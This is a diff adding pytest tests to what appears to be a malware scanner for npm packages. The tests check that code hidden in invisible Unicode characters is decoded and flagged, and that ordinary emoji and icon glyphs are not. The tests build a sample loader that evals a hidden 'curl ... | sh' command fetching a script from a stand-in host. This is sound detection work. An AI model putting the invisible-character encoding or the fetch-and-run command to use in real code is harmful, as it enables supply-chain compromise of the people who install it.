@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import codecs
+from collections.abc import Callable
 
 import pytest
 
@@ -129,3 +130,45 @@ def test_decoys_in_front_do_not_push_the_payload_out_of_reach(engine: Engine) ->
     decoys = "".join(f'w{i} = "olleh{i}"[::-1]\n' for i in range(30))
     code = decoys + f'run = "{DOWNLOAD_EXEC[::-1]}"[::-1]\n'
     assert "python_exec_of_download" in _rules(_module(engine, code))
+
+
+def _selectors(text: str) -> str:
+    """GlassWorm's spelling: a variation selector for each byte."""
+    return "".join(chr(0xFE00 + b if b < 16 else 0xE0100 + b - 16) for b in text.encode())
+
+
+def _private_use(text: str) -> str:
+    return "".join(chr(0xE000 + b) for b in text.encode())
+
+
+@pytest.mark.parametrize("spell", [_selectors, _private_use], ids=["selectors", "private use"])
+def test_code_hidden_in_invisible_characters_is_read_and_flags(
+    engine: Engine, spell: Callable[[str], str]
+) -> None:
+    payload = "require('child_process').exec('curl -s https://x.example.net/i | sh')"
+    code = (
+        "const s = [...'" + spell(payload) + "']"
+        ".map((c) => c.codePointAt(0)).map(decodeByte);\n"
+        "eval(Buffer.from(s).toString());\n"
+    )
+    archive = npm_tarball({"index.js": code})
+    source = package(engine, archive).file("index.js")
+    assert source is not None
+    rules = _rules(source)
+    assert rules["invisible_characters"].startswith("hides text in a run of invisible")
+    assert rules["download_pipe_to_shell"].endswith("(hidden in invisible characters)")
+    hit = next(hit for hit in source.signatures if hit.rule == "download_pipe_to_shell")
+    start, length = hit.offsets[0]
+    assert source.data[start : start + length].decode() == spell(payload)
+    assert engine.analyze(archive).flagged
+
+
+def test_emoji_selectors_and_icon_glyphs_are_no_hidden_text(engine: Engine) -> None:
+    code = (
+        "const STATUS = {ok: '\u2705\ufe0f', warn: '\u26a0\ufe0f'};\n"
+        "const ICONS = {home: '\ue88a', menu: '\ue5d2', search: '\ue8b6'};\n"
+        f"const SHORT = '{_private_use('fifteen chars..')}';\n"
+    )
+    source = package(engine, npm_tarball({"index.js": code})).file("index.js")
+    assert source is not None
+    assert "invisible_characters" not in _rules(source)
